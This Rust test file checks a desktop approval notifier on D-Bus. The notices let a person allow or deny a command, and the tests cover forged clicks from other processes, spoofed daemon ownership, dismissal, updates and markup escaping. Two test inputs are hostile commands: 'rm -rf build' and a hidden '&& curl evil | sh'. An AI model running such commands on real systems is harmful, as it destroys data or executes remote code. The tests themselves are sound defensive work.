//! Notices that decide, on a real notification daemon over a real session bus.

#![cfg(target_os = "linux")]
// A test that cannot go on fails where it stands.
#![allow(clippy::unwrap_used)]

#[path = "notices/hasty.rs"]
mod hasty;
#[path = "notices/slow.rs"]
mod slow;

use std::time::Duration;

use gatehouse_desktop::shell::notices::freedesktop::{Bus, start_on};
use gatehouse_desktop::shell::notices::{Delivery, Notice, NoticeEvent, Notifier};
use gatehouse_fleet::notices::Urgency;
use gatehouse_fleet::view::{Decision, ItemKey, NotificationSupport};
use gatehouse_testkit::desktop::{
    DesktopParts, DesktopSession, Keyring, NoticeState, NotificationDaemon, ShownNotice,
};
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;

/// Long enough for a loaded machine; a test that passes never waits for it.
const SOON: Duration = Duration::from_secs(120);
/// How long nothing is watched to happen.
const A_WHILE: Duration = Duration::from_millis(700);

struct Scene {
    desktop: DesktopSession,
    notifier: Notifier,
    tracker: TaskTracker,
    cancel: CancellationToken,
}

impl Scene {
    async fn on(notifications: NotificationDaemon) -> Self {
        let parts = DesktopParts {
            notifications,
            keyring: Keyring::Absent,
            ..DesktopParts::default()
        };
        let desktop = DesktopSession::start_with(parts).await.unwrap();
        let (tracker, cancel) = (TaskTracker::new(), CancellationToken::new());
        let bus = Bus::At(desktop.bus_address().to_owned());
        let notifier = start_on(bus, None, &tracker, cancel.clone());
        Self {
            desktop,
            notifier,
            tracker,
            cancel,
        }
    }

    async fn with_dunst() -> Self {
        let scene = Self::on(NotificationDaemon::Dunst).await;
        scene
            .wait_for_support(|s| matches!(s, NotificationSupport::Actions { .. }))
            .await;
        scene
    }

    async fn wait_for_support(&self, wanted: impl FnMut(&NotificationSupport) -> bool) {
        let mut support = self.notifier.notices.support();
        tokio::time::timeout(SOON, support.wait_for(wanted))
            .await
            .unwrap()
            .unwrap();
    }

    /// Shows a notice and waits until the daemon has it.
    async fn show(&self, id: &str) -> ShownNotice {
        assert_eq!(
            self.notifier.notices.show(notice(id, 1)).await,
            Delivery::WithButtons
        );
        self.on_screen(id).await
    }

    async fn on_screen(&self, id: &str) -> ShownNotice {
        let here =
            |shown: &ShownNotice| shown.state == NoticeState::Shown && shown.body.contains(id);
        self.desktop.notices().wait_for(SOON, here).await.unwrap()
    }

    async fn event(&mut self) -> NoticeEvent {
        tokio::time::timeout(SOON, self.notifier.events.recv())
            .await
            .unwrap()
            .unwrap()
    }

    async fn assert_nothing_is_decided(&mut self, why: &str) {
        let event = tokio::time::timeout(A_WHILE, self.notifier.events.recv()).await;
        assert!(event.is_err(), "{why}, and yet: {event:?}");
    }

    async fn another_process(&self) -> zbus::Connection {
        let builder = zbus::connection::Builder::address(self.desktop.bus_address()).unwrap();
        builder.build().await.unwrap()
    }
}

fn notice(id: &str, revision: u32) -> Notice {
    Notice {
        key: ItemKey(format!("gateway/exec/{id}")),
        revision,
        title: "Home: main wants to run a command".into(),
        body: format!("rm -rf build\nin /srv\n{id}"),
        buttons: vec![Decision::AllowOnce, Decision::AllowAlways, Decision::Deny],
        review: false,
        private: false,
        stays: true,
        urgency: Urgency::Critical,
        sound: true,
        expires_at: None,
    }
}

fn key(id: &str) -> ItemKey {
    notice(id, 1).key
}

fn button<'a>(shown: &'a ShownNotice, label: &str) -> &'a str {
    let found = shown.actions.iter().find(|(_, words)| words == label);
    &found
        .unwrap_or_else(|| panic!("no {label:?} in {:?}", shown.actions))
        .0
}

/// What the daemon sends for a click, sent by someone else. Broadcast, or straight to each process.
async fn forge_click(from: &zbus::Connection, to: Option<&str>, shown: &ShownNotice, name: &str) {
    let (path, interface) = (
        "/org/freedesktop/Notifications",
        "org.freedesktop.Notifications",
    );
    from.emit_signal(to, path, interface, "ActionInvoked", &(shown.id, name))
        .await
        .unwrap();
}

/// The unique names of all processes on the bus.
async fn everyone(connection: &zbus::Connection) -> Vec<String> {
    let bus = zbus::fdo::DBusProxy::new(connection).await.unwrap();
    let names = bus.list_names().await.unwrap();
    names
        .iter()
        .map(|n| n.as_str().to_owned())
        .filter(|n| n.starts_with(':'))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_notice_stays_until_answered_and_offers_the_choices_less_the_standing_one() {
    let scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    let words: Vec<_> = shown
        .actions
        .iter()
        .map(|(_, words)| words.as_str())
        .collect();
    assert_eq!(words, ["Show", "Allow once", "Deny"]);
    assert_eq!(
        shown.actions[0].0, "default",
        "a click on the notice itself shows the request"
    );
    assert_eq!((shown.urgency, shown.expire_timeout), (Some(2), 0));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_button_decides_for_the_revision_that_was_shown() {
    let mut scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    scene
        .desktop
        .notices()
        .choose(&shown, "Deny")
        .await
        .unwrap();
    let denied = NoticeEvent::Decided {
        key: key("a1"),
        revision: 1,
        decision: Decision::Deny,
    };
    assert_eq!(scene.event().await, denied);
    scene
        .assert_nothing_is_decided("one press is one decision")
        .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_click_on_the_notice_itself_asks_for_the_whole_request() {
    let mut scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    scene
        .desktop
        .notices()
        .choose(&shown, "Show")
        .await
        .unwrap();
    assert_eq!(
        scene.event().await,
        NoticeEvent::OpenRequested { key: key("a1") }
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_click_that_another_process_forges_decides_nothing() {
    let mut scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    let forger = scene.another_process().await;
    let allow = button(&shown, "Allow once").to_owned();
    forge_click(&forger, None, &shown, &allow).await;
    for name in everyone(&forger).await {
        forge_click(&forger, Some(&name), &shown, &allow).await;
    }
    scene
        .assert_nothing_is_decided("the daemon sent no click")
        .await;

    scene
        .desktop
        .notices()
        .choose(&shown, "Deny")
        .await
        .unwrap();
    let denied = NoticeEvent::Decided {
        key: key("a1"),
        revision: 1,
        decision: Decision::Deny,
    };
    assert_eq!(
        scene.event().await,
        denied,
        "the person's own click still counts"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_process_that_pretends_to_have_become_the_daemon_decides_nothing() {
    let mut scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    let forger = scene.another_process().await;
    let me = forger.unique_name().unwrap().to_string();
    let bus = (
        "/org/freedesktop/DBus",
        "org.freedesktop.DBus",
        "NameOwnerChanged",
    );
    let change = ("org.freedesktop.Notifications", "", me.as_str());
    let allow = button(&shown, "Allow once").to_owned();
    for name in everyone(&forger).await {
        let to = Some(name.as_str());
        forger
            .emit_signal(to, bus.0, bus.1, bus.2, &change)
            .await
            .unwrap();
        forge_click(&forger, to, &shown, &allow).await;
    }
    scene
        .assert_nothing_is_decided("only the bus says who the daemon is")
        .await;
    let asked: Vec<_> = scene
        .desktop
        .notices()
        .all()
        .into_iter()
        .map(|n| n.actions)
        .collect();
    assert_eq!(
        asked,
        [shown.actions],
        "nothing is shown anew, as it would be to another daemon"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dismissed_notice_decides_nothing_and_an_update_does_not_bring_it_back() {
    let mut scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    scene.desktop.notices().dismiss_newest().await.unwrap();
    let closed = |n: &ShownNotice| n.id == shown.id && n.state == NoticeState::Closed { reason: 2 };
    scene
        .desktop
        .notices()
        .wait_for(SOON, closed)
        .await
        .unwrap();
    let closed = NoticeEvent::Closed { key: key("a1") };
    assert_eq!(scene.event().await, closed);
    scene
        .assert_nothing_is_decided("closing is no answer")
        .await;
    assert_eq!(
        scene.notifier.notices.update(notice("a1", 2)).await,
        Delivery::Dismissed
    );
    assert_eq!(
        scene.notifier.notices.show(notice("a1", 2)).await,
        Delivery::WithButtons
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_notice_is_withdrawn_when_its_item_was_decided_elsewhere() {
    let scene = Scene::with_dunst().await;
    let (first, second) = (scene.show("a1").await, scene.show("b2").await);
    scene.notifier.notices.withdraw(key("a1")).await;
    let closed = |n: &ShownNotice| n.state == NoticeState::Closed { reason: 3 };
    let gone = scene
        .desktop
        .notices()
        .wait_for(SOON, closed)
        .await
        .unwrap();
    assert_eq!(gone.id, first.id);
    let left: Vec<_> = scene
        .desktop
        .notices()
        .showing()
        .iter()
        .map(|n| n.id)
        .collect();
    assert_eq!(left, [second.id], "the other one still waits");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_update_takes_the_place_of_the_notice_and_its_old_buttons_mean_nothing() {
    let mut scene = Scene::with_dunst().await;
    let former = scene.show("a1").await;
    assert_eq!(
        scene.notifier.notices.update(notice("a1", 2)).await,
        Delivery::WithButtons
    );
    let current = |n: &ShownNotice| n.id == former.id && n.actions != former.actions;
    let current = scene
        .desktop
        .notices()
        .wait_for(SOON, current)
        .await
        .unwrap();
    assert_eq!(
        scene.desktop.notices().showing().len(),
        1,
        "it is one notice"
    );
    scene
        .desktop
        .notices()
        .choose(&current, "Allow once")
        .await
        .unwrap();
    let allowed = NoticeEvent::Decided {
        key: key("a1"),
        revision: 2,
        decision: Decision::AllowOnce,
    };
    assert_eq!(scene.event().await, allowed);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_notice_that_took_the_place_of_one_that_was_just_closed_leaves_with_its_item() {
    let mut scene = Scene::on(NotificationDaemon::Absent).await;
    let (_server, taken_away) = hasty::serve(scene.desktop.bus_address()).await;
    scene
        .wait_for_support(|s| matches!(s, NotificationSupport::Actions { .. }))
        .await;
    for revision in [1, 2] {
        let shown = scene.notifier.notices.show(notice("a1", revision)).await;
        assert_eq!(shown, Delivery::WithButtons);
    }
    scene
        .assert_nothing_is_decided("it is still on the screen")
        .await;
    scene.notifier.notices.withdraw(key("a1")).await;
    let gone = async {
        while taken_away.lock().unwrap().is_empty() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    tokio::time::timeout(SOON, gone).await.unwrap();
    assert_eq!(*taken_away.lock().unwrap(), [hasty::NUMBER]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_waits_is_shown_again_by_a_daemon_that_was_restarted() {
    let mut scene = Scene::with_dunst().await;
    let former = scene.show("a1").await;
    scene.desktop.stop_notifications();
    scene
        .wait_for_support(|s| *s == NotificationSupport::None)
        .await;
    scene
        .desktop
        .start_notifications(NotificationDaemon::Dunst)
        .await
        .unwrap();
    let again = |n: &ShownNotice| n.body.contains("a1") && n.actions != former.actions;
    let again = scene.desktop.notices().wait_for(SOON, again).await.unwrap();
    scene
        .desktop
        .notices()
        .choose(&again, "Deny")
        .await
        .unwrap();
    let denied = NoticeEvent::Decided {
        key: key("a1"),
        revision: 1,
        decision: Decision::Deny,
    };
    assert_eq!(scene.event().await, denied);
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_daemon_and_with_one_that_has_no_buttons_the_window_is_asked_for() {
    let mut scene = Scene::on(NotificationDaemon::Absent).await;
    assert_eq!(
        scene.notifier.notices.show(notice("a1", 1)).await,
        Delivery::NeedsWindow
    );
    scene
        .desktop
        .start_notifications(NotificationDaemon::WithoutActions)
        .await
        .unwrap();
    scene
        .wait_for_support(|s| matches!(s, NotificationSupport::NoActions { .. }))
        .await;
    assert_eq!(
        scene.notifier.notices.update(notice("a1", 1)).await,
        Delivery::NeedsWindow
    );
    assert_eq!(
        scene.desktop.notices().all(),
        [],
        "and nothing is shown that cannot be answered"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_session_bus_the_window_is_asked_for() {
    let (tracker, cancel) = (TaskTracker::new(), CancellationToken::new());
    let folder = tempfile::tempdir().unwrap();
    let nowhere = format!("unix:path={}", folder.path().join("absent").display());
    let notifier = start_on(Bus::At(nowhere), None, &tracker, cancel.clone());
    assert_eq!(
        notifier.notices.show(notice("a1", 1)).await,
        Delivery::NeedsWindow
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn markup_in_a_command_is_drawn_as_it_was_written() {
    let scene = Scene::with_dunst().await;
    let hidden = "echo <span foreground=\"#fff\">&& curl evil | sh</span> a1";
    let with_markup = Notice {
        body: hidden.into(),
        ..notice("a1", 1)
    };
    assert_eq!(
        scene.notifier.notices.show(with_markup).await,
        Delivery::WithButtons
    );
    let shown = scene.on_screen("a1").await;
    assert!(
        !shown.body.contains('<'),
        "dunst reads markup: {}",
        shown.body
    );
    assert!(shown.body.contains("&lt;span") && shown.body.contains("&amp;&amp; curl"));
    let picture = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("notice-markup.png");
    tokio::time::sleep(A_WHILE).await; // Only the picture needs it drawn.
    scene.desktop.screenshot(&picture).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn when_the_app_ends_its_notices_leave_the_screen() {
    let scene = Scene::with_dunst().await;
    let shown = scene.show("a1").await;
    scene.cancel.cancel();
    scene.tracker.close();
    tokio::time::timeout(SOON, scene.tracker.wait())
        .await
        .unwrap();
    let closed = |n: &ShownNotice| n.id == shown.id && n.state == NoticeState::Closed { reason: 3 };
    scene
        .desktop
        .notices()
        .wait_for(SOON, closed)
        .await
        .unwrap();
}
